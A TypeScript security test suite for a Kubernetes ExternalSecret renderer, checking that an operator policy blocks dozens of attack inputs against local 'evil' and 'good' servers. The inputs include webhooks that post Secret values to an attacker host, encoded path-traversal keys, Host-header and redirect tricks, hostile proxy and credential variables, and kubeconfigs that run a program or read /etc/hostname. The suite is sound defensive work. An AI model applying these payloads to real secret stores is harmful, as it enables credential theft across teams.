import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { dist, type Ended, folder, put, runtimes } from '../acceptance/programs.ts'

/** What must never leave: the values of other Secrets, of other teams, and of the environment. */
const marked = 's3cret-marked'

interface Seen {
  readonly url: string
  readonly headers: IncomingHttpHeaders
}

/** The attacker's server, and the one that the operator's policy allows. */
const hosts = { evil: '', good: '' }
const seen: Readonly<Record<keyof typeof hosts, Seen[]>> = { evil: [], good: [] }
const servers: Server[] = []

/** What the allowed server answers by path; everything else is 403. */
function answerOf(url: string): { readonly status: number; readonly body?: string; readonly location?: string } {
  if (url.includes('elsewhere')) return { status: 307, location: `http://${hosts.good}/v1/secret/data/team-b/db` }
  if (url.includes('moved')) return { status: 307, location: `http://${hosts.evil}/taken` }
  if (url.startsWith('/v1/secret/data/team-b')) return { status: 200, body: secret(marked) }
  if (url === '/v1/secret/data/team-a/db') return { status: 200, body: secret('of-team-a') }
  return { status: 403 }
}

function secret(password: string): string {
  return JSON.stringify({ data: { data: { password } } })
}

async function listen(name: keyof typeof hosts): Promise<void> {
  const server = createServer((request, response) => {
    const { url = '', headers } = request
    seen[name].push({ url, headers })
    const { status, body, location } = name === 'evil' ? { status: 200, body: secret('taken') } : answerOf(url)
    response.writeHead(status, location === undefined ? {} : { location }).end(body)
  })
  servers.push(server)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  hosts[name] = `127.0.0.1:${(server.address() as AddressInfo).port}`
}

before(() => Promise.all([listen('evil'), listen('good')]))

after(() => {
  for (const server of servers) {
    server.closeAllConnections()
    server.close()
  }
})

/** Renders while the servers here can answer. */
function render(cwd: string, on: (typeof runtimes)[number], args: readonly string[], env: object): Promise<Ended> {
  const [file, first] =
    on === 'node' ? [process.execPath, [join(dist, 'lib/cli/sealkit.mjs')]] : [join(dist, 'sealkit'), []]
  const options = { cwd, timeout: 300_000, env: { PATH: process.env['PATH'] ?? '', HOME: cwd, ...env } }
  return new Promise((resolve) => {
    execFile(file, [...first, 'render', ...args], options, (error, stdout, stderr) => {
      resolve({ code: error === null ? 0 : typeof error.code === 'number' ? error.code : null, stdout, stderr })
    })
  })
}

const object = (kind: string, name: string, rest: string, version = 'external-secrets.io/v1'): string =>
  `---\napiVersion: ${version}\nkind: ${kind}\nmetadata: { name: ${name}, namespace: shop }\n${rest}\n`

const external = (spec: string): string => object('ExternalSecret', 'taken', `spec: { ${spec} }`)
const entry = (key: string): string =>
  external(
    `secretStoreRef: { name: store }, data: [{ secretKey: v, remoteRef: { key: ${JSON.stringify(key)}, property: password } }]`,
  )
const generated = (kind: string): string =>
  external(
    `dataFrom: [{ sourceRef: { generatorRef: { apiVersion: generators.external-secrets.io/v1alpha1, kind: ${kind}, name: gen } } }]`,
  )
const generator = (kind: string, spec: string): string =>
  object(kind, 'gen', `spec: ${spec}`, 'generators.external-secrets.io/v1alpha1')
const store = (provider: string, kind = 'SecretStore'): string =>
  object(kind, 'store', `spec: { provider: ${provider} }`)
const vault = (host: string, more = 'auth: { tokenSecretRef: { name: own, key: key } }'): string =>
  `{ vault: { server: 'http://${host}', path: secret, ${more} } }`
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const plain = (name: string, namespace = 'shop', labels = ''): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: { name: ${name}, namespace: ${namespace}, labels: { ${labels} } }\ndata: { key: ${base64(marked)} }\n`

const webhook = (spec: string): string => store(`{ webhook: { ${spec} } }`)
const sending = `method: POST, body: '{{ .stolen.key }}', secrets: [{ name: stolen, secretRef: { name: own } }]`

const kubeconfig = (host: string, user: string): string =>
  object(
    'Secret',
    'config',
    `data: { key: ${base64(
      JSON.stringify({
        'current-context': 'c',
        contexts: [{ name: 'c', context: { cluster: 'c', user: 'u' } }],
        clusters: [{ name: 'c', cluster: { server: `http://${host}` } }],
        users: [{ name: 'u', user: JSON.parse(user) }],
      }),
    )} }`,
    'v1',
  )
const kubernetes = (host: string): string =>
  store(`{ kubernetes: { server: { url: 'http://${host}' }, authRef: { name: config, key: key } } }`)

/** The operator's policy: one host, and in Vault the paths of one team. */
const rules = (): string => `rules:
  - { provider: vault, hosts: ['${hosts.good}'], paths: ['team-a/.*'] }
  - { provider: webhook, hosts: ['${hosts.good}'] }
  - { provider: kubernetes, hosts: ['${hosts.good}'] }
  - { provider: aws, hosts: ['secretsmanager.eu-west-1.amazonaws.com'] }
`

/** The same with what stores say beside their host: mounts, namespaces, prefixes, roles and paths of one team. */
const bounds = (): string => `rules:
  - { provider: vault, hosts: ['${hosts.good}'], mounts: [secret], namespaces: ['', team-a], paths: ['team-a/.*'] }
  - { provider: webhook, hosts: ['${hosts.good}'], urlPaths: ['/v1/secret/data/team-a/.*', '/elsewhere'] }
  - { provider: kubernetes, hosts: ['${hosts.good}'], namespaces: [team-a] }
  - provider: aws
    hosts: ['secretsmanager.eu-west-1.amazonaws.com', 'secretsmanager.us-east-1.amazonaws.com']
    regions: [eu-west-1]
    prefixes: ['team-a/']
    roles: ['arn:aws:iam::123456789012:role/team-a']
`

interface Attack {
  readonly name: string
  readonly input: () => string
  /** The operator's policy; {@link rules} unless given. */
  readonly policy?: () => string
  /** No policy file at all. */
  readonly open?: boolean
  readonly env?: () => Readonly<Record<string, string>>
  readonly reason: RegExp
  /** Requests that may reach the allowed server: it refuses, or is no danger. */
  readonly asked?: RegExp
}

const attacks: readonly Attack[] = [
  {
    name: 'a store of its own, without a policy',
    open: true,
    input: () => entry('team-a/db') + store(vault(hosts.evil)) + plain('own'),
    reason: /"store" uses vault at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a store of its own, where the policy allows another host',
    input: () => entry('team-a/db') + store(vault(hosts.evil)) + plain('own'),
    reason: /uses vault at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a ClusterSecretStore of its own',
    input: () =>
      entry('team-a/db').replace('{ name: store }', '{ name: store, kind: ClusterSecretStore }') +
      store(vault(hosts.evil), 'ClusterSecretStore').replace(', namespace: shop', ''),
    reason: /uses vault at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a host that begins as the allowed one',
    input: () => entry('team-a/db') + store(vault(`${hosts.good}@${hosts.evil}`)) + plain('own'),
    reason: /which the policy does not allow/,
  },
  {
    name: "another team's path in the allowed Vault",
    input: () => entry('team-b/db') + store(vault(hosts.good)) + plain('own'),
    reason: /the policy does not allow the key "team-b\/db" of vault/,
  },
  {
    name: 'a path that climbs out of the pattern',
    input: () => entry('team-a/../team-b/db') + store(vault(hosts.good)) + plain('own'),
    reason: /key: team-a\/\.\.\/team-b\/db/,
  },
  {
    name: 'a path that climbs out of the pattern, encoded',
    input: () => entry('team-a/%2e%2e/team-b/db') + store(vault(hosts.good)) + plain('own'),
    reason: /key: team-a\/%2e%2e\/team-b\/db/,
    asked: /^\/v1\/secret\/data\/team-a\/%252e%252e\/team-b\/db$/,
  },
  {
    name: 'a path with a slash that is encoded',
    input: () => entry('team-a/..%2fteam-b/db') + store(vault(hosts.good)) + plain('own'),
    reason: /key: team-a\/\.\.%2fteam-b\/db/,
    asked: /^\/v1\/secret\/data\/team-a\/\.\.%252fteam-b\/db$/,
  },
  {
    name: 'a second line that fits the pattern',
    input: () => entry('team-b/db\nteam-a/db') + store(vault(hosts.good)) + plain('own'),
    reason: /the policy does not allow the key/,
  },
  {
    name: 'a find of everything in the allowed Vault',
    input: () =>
      external('secretStoreRef: { name: store }, dataFrom: [{ find: { name: { regexp: . } } }]') +
      store(vault(hosts.good)) +
      plain('own'),
    reason: /the policy does not allow the key ""/,
  },
  {
    name: 'a webhook that posts a value home, without a policy',
    open: true,
    input: () => entry('x') + webhook(`url: 'http://${hosts.evil}/', ${sending}`) + plain('own'),
    reason: /uses webhook at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a webhook that posts a value home, where the policy allows another host',
    input: () => entry('x') + webhook(`url: 'http://${hosts.evil}/', ${sending}`) + plain('own'),
    reason: /uses webhook at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a webhook that posts a Secret which is not meant for it',
    input: () => entry('x') + webhook(`url: 'http://${hosts.good}/', ${sending}`) + plain('own'),
    reason: /secret does not contain needed label/,
  },
  {
    name: 'a webhook that posts a Secret of another namespace',
    input: () =>
      entry('x') +
      webhook(`url: 'http://${hosts.good}/', ${sending}`.replace('{ name: own }', '{ name: own, namespace: other }')) +
      plain('own', 'other', 'external-secrets.io/type: webhook'),
    reason: /own/,
  },
  {
    name: 'a webhook whose template makes the host',
    input: () => entry(hosts.evil) + webhook(`url: 'http://${hosts.good}{{ "@" }}{{ .remoteRef.key }}/'`),
    reason: /which the policy does not allow/,
  },
  {
    name: 'a webhook whose template is the whole address',
    input: () => entry('x') + webhook(`url: '{{ "http://${hosts.evil}/" }}'`),
    reason: /which the policy does not allow/,
  },
  {
    name: 'an allowed webhook that redirects to another host',
    input: () =>
      entry('x') +
      webhook(`url: 'http://${hosts.good}/moved', headers: { X-Key: '{{ .stolen.key }}' }, ${sending}`) +
      plain('own', 'shop', 'external-secrets.io/type: webhook'),
    reason: /would send a request to 127\.0\.0\.1:\d+, which the policy does not allow/,
    asked: /^\/moved$/,
  },
  {
    name: 'an allowed Vault that redirects to another host',
    input: () => entry('team-a/moved') + store(vault(hosts.good)) + plain('own'),
    reason: /would send a request to 127\.0\.0\.1:\d+, which the policy does not allow/,
    asked: /moved$/,
  },
  {
    name: 'an AWS store without credentials, where the environment has some',
    input: () => entry('x') + store('{ aws: { service: SecretsManager, region: eu-west-1 } }'),
    env: () => ({
      AWS_ACCESS_KEY_ID: marked,
      AWS_SECRET_ACCESS_KEY: marked,
      AWS_SESSION_TOKEN: marked,
      AWS_ENDPOINT_URL: `http://${hosts.evil}`,
    }),
    reason: /names no credentials, and ambient ones are not allowed/,
  },
  {
    name: 'an AWS store whose region names a host',
    input: () => entry('x') + store(`{ aws: { service: SecretsManager, region: '${hosts.evil}/#' } }`),
    reason: /region must be the name of a region|which the policy does not allow/,
  },
  {
    name: 'a Vault store without credentials, where the environment has some',
    input: () => entry('team-a/nothing') + store(vault(hosts.good, 'version: v2')),
    env: () => ({
      VAULT_TOKEN: marked,
      BAO_TOKEN: marked,
      VAULT_ADDR: `http://${hosts.evil}`,
      HTTP_PROXY: `http://${hosts.evil}`,
      http_proxy: `http://${hosts.evil}`,
      ALL_PROXY: `http://${hosts.evil}`,
    }),
    reason: /Code: 403|no credentials|auth/,
    asked: /^\/v1\/secret\/data\/team-a\/nothing$/,
  },
  {
    name: 'a template that takes a Secret of another namespace',
    input: () =>
      external(
        'secretStoreRef: { name: store }, target: { template: { templateFrom: [{ secret: { name: other, items: [{ key: key }] } }] } }, data: [{ secretKey: v, remoteRef: { key: x } }]',
      ) +
      store('{ fake: { data: [{ key: x, value: x }] } }') +
      plain('other', 'other'),
    reason: /other/,
  },
  {
    name: 'a template that takes a ConfigMap of another namespace',
    input: () =>
      external(
        'secretStoreRef: { name: store }, target: { template: { templateFrom: [{ configMap: { name: other, namespace: other, items: [{ key: key }] } }] } }, data: [{ secretKey: v, remoteRef: { key: x } }]',
      ) +
      store('{ fake: { data: [{ key: x, value: x }] } }') +
      `---\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: other, namespace: other }\ndata: { key: ${marked} }\n`,
    reason: /other/,
  },
  {
    name: "a store that takes another namespace's token",
    input: () =>
      entry('team-a/db') +
      store(vault(hosts.good, 'auth: { tokenSecretRef: { name: theirs, namespace: other, key: key } }')) +
      plain('theirs', 'other'),
    reason: /theirs/,
  },
  {
    name: "a store that takes another namespace's authority",
    input: () =>
      entry('team-a/db') +
      store(
        vault(
          hosts.good,
          'caProvider: { type: ConfigMap, name: ca, namespace: other, key: key }, auth: { tokenSecretRef: { name: own, key: key } }',
        ),
      ) +
      plain('own') +
      `---\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: ca, namespace: other }\ndata: { key: ${marked} }\n`,
    reason: /ca/,
  },
  {
    name: 'a kubeconfig that names another server than its store',
    input: () => entry('x') + kubernetes(hosts.good) + kubeconfig(hosts.evil, '{"token":"t"}'),
    reason: /would send a request to 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a kubeconfig that runs a program',
    input: () =>
      entry('x') +
      kubernetes(hosts.good) +
      kubeconfig(
        hosts.good,
        '{"exec":{"apiVersion":"client.authentication.k8s.io/v1","command":"touch","args":["ran"]}}',
      ),
    reason: /the kubeconfig's user has exec: programs and files are not used/,
  },
  {
    name: 'a kubeconfig that sends a file of this machine',
    input: () => entry('x') + kubernetes(hosts.good) + kubeconfig(hosts.good, '{"tokenFile":"/etc/hostname"}'),
    reason: /the kubeconfig's user has tokenFile: programs and files are not used/,
  },
  {
    name: 'a kubeconfig that logs in with a file of this machine',
    input: () =>
      entry('x') +
      kubernetes(hosts.good) +
      kubeconfig(hosts.good, '{"token":"t","client-certificate":"/etc/hostname","client-key":"/etc/hostname"}'),
    reason: /the kubeconfig's user has client-certificate: programs and files are not used/,
  },
  {
    name: 'a ServiceAccount whose token nobody mints',
    input: () =>
      entry('x') +
      store(`{ kubernetes: { server: { url: 'http://${hosts.good}' }, auth: { serviceAccount: { name: default } } } }`),
    reason: /default/,
  },
  {
    name: 'a VaultDynamicSecret of its own server',
    input: () =>
      generated('VaultDynamicSecret') +
      generator(
        'VaultDynamicSecret',
        `{ path: team-a/db, provider: { server: 'http://${hosts.evil}', path: secret, auth: { tokenSecretRef: { name: own, key: key } } } }`,
      ) +
      plain('own'),
    reason: /uses vault at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: "a VaultDynamicSecret of another team's path",
    input: () =>
      generated('VaultDynamicSecret') +
      generator(
        'VaultDynamicSecret',
        `{ path: secret/data/team-b/db, provider: { server: 'http://${hosts.good}', path: secret, auth: { tokenSecretRef: { name: own, key: key } } } }`,
      ) +
      plain('own'),
    reason: /the policy does not allow the key "secret\/data\/team-b\/db"/,
  },
  {
    name: 'a Webhook generator of its own server',
    input: () =>
      generated('Webhook') +
      generator('Webhook', `{ url: 'http://${hosts.evil}/', result: { jsonPath: $ }, ${sending} }`) +
      plain('own', 'shop', 'generators.external-secrets.io/type: webhook'),
    reason: /uses webhook at 127\.0\.0\.1:\d+, which the policy does not allow/,
  },
  {
    name: 'a Webhook generator that redirects to another host',
    input: () =>
      generated('Webhook') +
      generator('Webhook', `{ url: 'http://${hosts.good}/moved', result: { jsonPath: $ }, ${sending} }`) +
      plain('own', 'shop', 'generators.external-secrets.io/type: webhook'),
    reason: /would send a request to 127\.0\.0\.1:\d+, which the policy does not allow/,
    asked: /^\/moved$/,
  },
]

/** A Vault store of the allowed host whose spec is as given. */
const vaultWith = (spec: string): string =>
  store(`{ vault: { server: 'http://${hosts.good}', auth: { tokenSecretRef: { name: own, key: key } }, ${spec} } }`)
const login = 'tokenSecretRef: { name: own, key: key }'
const aws = (spec: string): string =>
  store(`{ aws: { service: SecretsManager, region: eu-west-1, prefix: team-a/, ${role('team-a')}, ${spec} } }`)
const role = (name: string): string => `role: 'arn:aws:iam::123456789012:role/${name}'`

/** What a store says beside its host, where the policy bounds it. The words that are not quoted are the ones refused. */
const outside: readonly (readonly [name: string, input: () => string, reason: RegExp, asked?: RegExp])[] = [
  ['another mount', () => entry('team-a/db') + vaultWith('path: other'), /with the mount "other", which the policy/],
  [
    'a mount that goes up',
    () => entry('team-a/db') + vaultWith('path: secret/../other'),
    /mount "secret\/\.\.\/other"/,
  ],
  [
    'a mount that goes up in percents',
    () => entry('team-a/db') + vaultWith("path: 'secret/%2e%2e/other'"),
    /mount "secret\/%2e%2e\/other"/,
  ],
  [
    'a mount with a slash in percents',
    () => entry('team-a/db') + vaultWith("path: 'secret%2fdata%2fteam-b'"),
    /mount "secret%2fdata%2fteam-b"/,
  ],
  [
    'a mount that is a path below the allowed one',
    () => entry('team-a/db') + vaultWith('path: secret/data/team-b, version: v1'),
    /mount "secret\/data\/team-b"/,
  ],
  [
    'a mount on a second line',
    () => entry('team-a/db') + vaultWith('path: "other\\nsecret"'),
    /mount "other\\nsecret"/,
  ],
  ['no mount, so that the key names it', () => entry('team-a/data/db') + vaultWith('version: v2'), /with the mount ""/],
  ['another namespace', () => entry('team-a/db') + vaultWith('path: secret, namespace: team-b'), /namespace "team-b"/],
  [
    'a namespace below the allowed one',
    () => entry('team-a/db') + vaultWith('path: secret, namespace: team-a/../team-b'),
    /namespace "team-a\/\.\.\/team-b"/,
  ],
  [
    'a login in another namespace',
    () => entry('team-a/db') + store(vault(hosts.good, `auth: { namespace: team-b, ${login} }`)),
    /namespace "", "team-b"/,
  ],
  [
    'a namespace in a header',
    () => entry('team-a/db') + vaultWith('path: secret, headers: { x-vault-NAMESPACE: team-b }'),
    /namespace "", "", "team-b"/,
  ],
  [
    'a namespace at the start of the mount',
    () => entry('team-a/db') + vaultWith('path: team-b/secret'),
    /mount "team-b\/secret"/,
  ],
  [
    'a server whose address holds the path',
    () => entry('team-a/db') + store(vault(`${hosts.good}/v1/secret/data/team-b/db?x=`)),
    /uses vault at 127\.0\.0\.1:\d+\/v1\/secret\/data\/team-b\/db, which the policy/,
  ],
  [
    'another server behind the same address, by a header',
    () => entry('team-a/db') + vaultWith(`path: secret, headers: { hOST: '${hosts.evil}' }`),
    /would send a request to 127\.0\.0\.1:\d+, which the policy/,
  ],
  [
    'another prefix',
    () =>
      entry('db') +
      store(`{ aws: { service: SecretsManager, region: eu-west-1, prefix: team-b/, ${role('team-a')} } }`),
    /with the prefix "team-b\/"/,
  ],
  [
    'a prefix that goes up',
    () =>
      entry('db') +
      store(`{ aws: { service: SecretsManager, region: eu-west-1, prefix: team-a/../team-b/, ${role('team-a')} } }`),
    /prefix "team-a\/\.\.\/team-b\/"/,
  ],
  [
    'no prefix',
    () => entry('db') + store(`{ aws: { service: SecretsManager, region: eu-west-1, ${role('team-a')} } }`),
    /with the prefix ""/,
  ],
  [
    'another region',
    () =>
      entry('db') +
      store(`{ aws: { service: SecretsManager, region: us-east-1, prefix: team-a/, ${role('team-a')} } }`),
    /with the region "us-east-1"/,
  ],
  [
    'another role',
    () =>
      entry('db') + store(`{ aws: { service: SecretsManager, region: eu-west-1, prefix: team-a/, ${role('admin')} } }`),
    /with the role "arn:aws:iam::123456789012:role\/admin"/,
  ],
  [
    'another role before the allowed one',
    () => entry('db') + aws("additionalRoles: ['arn:aws:iam::123456789012:role/admin']"),
    /role "arn:aws:iam::123456789012:role\/admin", "arn/,
  ],
  [
    'no role',
    () => entry('db') + store('{ aws: { service: SecretsManager, region: eu-west-1, prefix: team-a/ } }'),
    /with the role ""/,
  ],
  [
    'a role that only a ServiceAccount names',
    () => entry('db') + aws('auth: { jwt: { serviceAccountRef: { name: admin } } }'),
    /with the role "serviceaccount"/,
  ],
  [
    'another namespace of a cluster',
    () =>
      entry('db') +
      store(
        `{ kubernetes: { server: { url: 'http://${hosts.good}' }, remoteNamespace: team-b, authRef: { name: config, key: key } } }`,
      ),
    /with the namespace "team-b"/,
  ],
  ['no namespace of a cluster', () => entry('db') + kubernetes(hosts.good), /with the namespace "default"/],
  [
    'a kubeconfig that names another cluster behind the same address',
    () =>
      entry('db') +
      store(
        `{ kubernetes: { server: { url: 'http://${hosts.good}' }, remoteNamespace: team-a, authRef: { name: config, key: key } } }`,
      ) +
      kubeconfig(`${hosts.good}/k8s/clusters/other`, '{"token":"t"}'),
    /would send a request to 127\.0\.0\.1:\d+\/k8s\/clusters\/other, which the policy/,
  ],
  ...[
    ['another path of a webhook', '/v1/secret/data/team-b/db'],
    ['a path that begins with the allowed one', '/v1/secret/data/team-a'],
    ['a path that goes up in percents', '/v1/secret/data/team-a/%2e%2e/team-b/db'],
    ['a path that goes up in percents of percents', '/v1/secret/data/team-a/%252e%252e/team-b/db'],
    ['a path that goes up behind a slash in percents', '/v1/secret/data/team-a/x%2f..%2f..%2fteam-b/db'],
    ['a path that goes up behind a backslash', '/v1/secret/data/team-a/..\\\\team-b/db'],
    ['a path that goes up behind a backslash in percents', '/v1/secret/data/team-a/x%5c..%5c..%5cteam-b/db'],
    ['a path that goes up before a semicolon', '/v1/secret/data/team-a/..;x/team-b/db'],
    ['a path whose percents stand for nothing', '/v1/secret/data/team-a/%ff/db'],
    ['a path that is encoded without an end', `/v1/secret/data/team-a/%${'25'.repeat(20)}2e`],
    ['a path in the query', '/elsewhere?path=team-b/db'],
    ['a path that a template makes', '/v1/secret/data/{{ "team-b" }}/db'],
  ].map(([name = '', path = '']): (typeof outside)[number] => [
    name,
    () => entry('x') + webhook(`url: 'http://${hosts.good}${path}'`),
    /would send a request to this path of 127\.0\.0\.1:\d+, which the policy/,
  ]),
  [
    'a path that goes up',
    () => entry('x') + webhook(`url: 'http://${hosts.good}/v1/secret/data/team-a/../team-b/db'`),
    /makes a "\." or "\.\." segment/,
  ],
  [
    'an allowed webhook that redirects to another path of the same host',
    () => entry('x') + webhook(`url: 'http://${hosts.good}/elsewhere'`),
    /would send a request to this path of 127\.0\.0\.1:\d+, which the policy/,
    /^\/elsewhere$/,
  ],
  [
    'a Webhook generator of another path',
    () =>
      generated('Webhook') +
      generator('Webhook', `{ url: 'http://${hosts.good}/v1/secret/data/team-b/db', result: { jsonPath: $ } }`),
    /would send a request to this path of 127\.0\.0\.1:\d+, which the policy/,
  ],
  [
    'a VaultDynamicSecret of another mount',
    () =>
      generated('VaultDynamicSecret') +
      generator(
        'VaultDynamicSecret',
        `{ path: team-a/db, provider: { server: 'http://${hosts.good}', path: secret, auth: { ${login} } } }`,
      ),
    /with the mount "team-a"/,
  ],
]

const bounded: readonly Attack[] = outside.map(([name, input, reason, asked]) => ({
  name: `bounds, ${name}`,
  input: () => input() + plain('own'),
  policy: bounds,
  reason,
  ...(asked === undefined ? {} : { asked }),
}))

/** A good entry beside each attack: all or nothing. */
const harmless = `${object('ExternalSecret', 'harmless', 'spec: { secretStoreRef: { name: harmless }, data: [{ secretKey: v, remoteRef: { key: x } }] }')}${object('SecretStore', 'harmless', 'spec: { provider: { fake: { data: [{ key: x, value: harmless }] } } }')}`

for (const { name, input, policy = rules, open = false, env = () => ({}), reason, asked } of [...attacks, ...bounded]) {
  test(`an attack that gets nothing: ${name}`, async (t) => {
    seen.evil.length = 0
    seen.good.length = 0
    const cwd = folder(t, { 'in.yaml': harmless + input() })
    put(cwd, 'policy.yaml', policy())
    const args = [...(open ? [] : ['--policy', 'policy.yaml']), 'in.yaml']
    for (const on of runtimes) {
      const { code, stdout, stderr } = await render(cwd, on, args, env())
      assert.deepEqual([code, stdout], [1, ''], stderr)
      assert.match(stderr, reason)
      assert.match(stderr, /ExternalSecret shop\/taken: /)
      assert.ok(!stderr.includes(marked), 'a value is in the error')
    }
    assert.deepEqual(seen.evil, [])
    for (const { url, headers } of seen.good) {
      assert.match(url, asked ?? /^$/)
      if (Object.keys(env()).length > 0)
        assert.ok(!JSON.stringify(headers).includes(marked), 'ambient credentials were sent')
    }
    assert.ok(!existsSync(join(cwd, 'ran')), 'a program was run')
  })
}

const allowed: readonly (readonly [name: string, policy: () => string, input: () => string])[] = [
  ['', rules, () => store(vault(hosts.good))],
  [', within bounds', bounds, () => store(vault(hosts.good))],
  [', within bounds, in a namespace', bounds, () => vaultWith('path: /secret/, namespace: team-a')],
  [
    ', within bounds, from a webhook',
    bounds,
    () => webhook(`url: 'http://${hosts.good}/v1/secret/data/team-a/db', result: { jsonPath: $.data.data.password }`),
  ],
]

for (const [name, policy, input] of allowed) {
  test(`what the policy allows is read: the attacks above fail for their own reasons${name}`, async (t) => {
    const cwd = folder(t, { 'in.yaml': entry('team-a/db') + input() + plain('own') })
    put(cwd, 'policy.yaml', policy())
    for (const on of runtimes) {
      const { code, stdout, stderr } = await render(cwd, on, ['--policy', 'policy.yaml', 'in.yaml'], {})
      assert.equal(code, 0, stderr)
      assert.ok(stdout.includes(base64('of-team-a')))
    }
  })
}

test('a value that holds a reference or a template is data', async (t) => {
  seen.evil.length = 0
  const texts = [`ref+vault://secret/x?address=http://${hosts.evil}#/a`, '{{ .other }}', '<path:secret/data/x#a>']
  const fake = store(`{ fake: { data: [${texts.map((text, index) => `{ key: k${index}, value: '${text}' }`)}] } }`)
  const entries = texts.map((_, index) => `{ secretKey: k${index}, remoteRef: { key: k${index} } }`)
  const template = "target: { template: { data: { made: '{{ .k1 }}', k0: '{{ .k0 }}', k2: '{{ .k2 }}' } } }"
  const input = external(`secretStoreRef: { name: store }, ${template}, data: [${entries}]`) + fake
  const cwd = folder(t, { 'in.yaml': input })
  for (const on of runtimes) {
    const { code, stdout, stderr } = await render(cwd, on, ['-o', 'json', 'in.yaml'], {})
    assert.equal(code, 0, stderr)
    const { data } = JSON.parse(stdout)
    const values = ['k0', 'made', 'k2'].map((key) => Buffer.from(data[key], 'base64').toString())
    assert.deepEqual(values, texts)
  }
  assert.deepEqual(seen.evil, [])
})
